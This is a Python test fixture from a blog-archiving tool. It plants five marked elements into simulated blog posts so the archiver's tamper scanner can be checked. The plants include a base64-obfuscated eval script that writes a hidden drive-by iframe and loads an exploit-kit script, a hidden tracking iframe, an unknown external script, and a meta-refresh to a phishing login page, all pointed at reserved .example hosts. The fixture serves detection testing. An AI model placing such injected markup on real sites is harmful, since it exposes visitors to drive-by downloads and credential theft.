"""The planted-code state (``serve --planted``): code an attacker put into a few posts, to test tamper flags.

The blog's earlier site was compromised and had code planted in it. With ``planted`` on, five posts of the
first state (fixed by their index, so every state and theme plants the same ones) carry one planted element
each at the end of the body their own page shows (desktop and ``?m=1``); listings and feeds show the body
without it, as an edit of the template or of the post page alone would. Each plant names the flag an
archive's scan must raise for it (kind, element, attribute, host): the ground truth lists them in
``planted``. One plant is harmless, a YouTube video as Blogger's editor embeds it: a third-party embed,
never obfuscated code. Hosts are under ``.example`` (RFC 2606): nothing can ever be fetched from them.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

#: the payload the obfuscated script decodes: it writes a hidden iframe to a drive-by host
_PAYLOAD = (
    "document.write('<iframe src=\"https://drive-by.evil-traffic.example/land.php?campaign=2014&ref='"
    '+encodeURIComponent(document.referrer)+\'" width="0" height="0" style="display:none"></iframe>\');'
    "var s=document.createElement('script');s.src='https://drive-by.evil-traffic.example/kit.js';"
    "document.getElementsByTagName('head')[0].appendChild(s);"
)


@dataclass(frozen=True)
class Plant:
    """One planted element: its markup, and the flag it must raise (``archiver.records.tamper`` kinds)."""

    kind: str
    element: str
    attribute: str | None
    host: str | None
    markup: str

    def expected(self) -> dict[str, str | None]:
        """The flag an archive must report for this plant (severity and excerpt are the scanner's)."""
        return {"kind": self.kind, "element": self.element, "attribute": self.attribute, "host": self.host}


PLANTS: tuple[Plant, ...] = (
    Plant(
        "obfuscated_script",
        "script",
        None,
        None,
        '<script type="text/javascript">eval(atob("' + base64.b64encode(_PAYLOAD.encode()).decode() + '"));</script>',
    ),
    Plant(
        "hidden_iframe",
        "iframe",
        "src",
        "counter.evil-traffic.example",
        '<iframe frameborder="0" height="1" src="https://counter.evil-traffic.example/c.php?id=7" '
        'style="visibility:hidden;position:absolute;left:-999px" width="1"></iframe>',
    ),
    Plant(
        "external_script",
        "script",
        "src",
        "cdn.unknown-analytics.example",
        '<script src="https://cdn.unknown-analytics.example/s.js?v=3" type="text/javascript"></script>',
    ),
    Plant(
        "meta_refresh",
        "meta",
        "content",
        "login.phish.example",
        '<meta content="30; url=https://login.phish.example/blogger/signin" http-equiv="refresh" />',
    ),
    Plant(
        "external_embed",
        "iframe",
        "src",
        "www.youtube.com",
        '<div class="separator" style="clear: both; text-align: center;"><iframe allowfullscreen="" '
        'class="BLOG_video_class" height="266" src="https://www.youtube.com/embed/M7lc1UVf-VE" width="320" '
        'youtube-src-id="M7lc1UVf-VE"></iframe></div>',
    ),
)
#: the indices (in the first state's order of creation) of the posts that get a plant, one each
PLANTED_INDICES = (3, 5, 7, 9, 11)
#: the fewest posts a planted blog may have
MIN_POSTS = PLANTED_INDICES[-1] + 1


def plants_by_index() -> dict[int, Plant]:
    """Post index to the plant its own page carries."""
    return dict(zip(PLANTED_INDICES, PLANTS, strict=True))
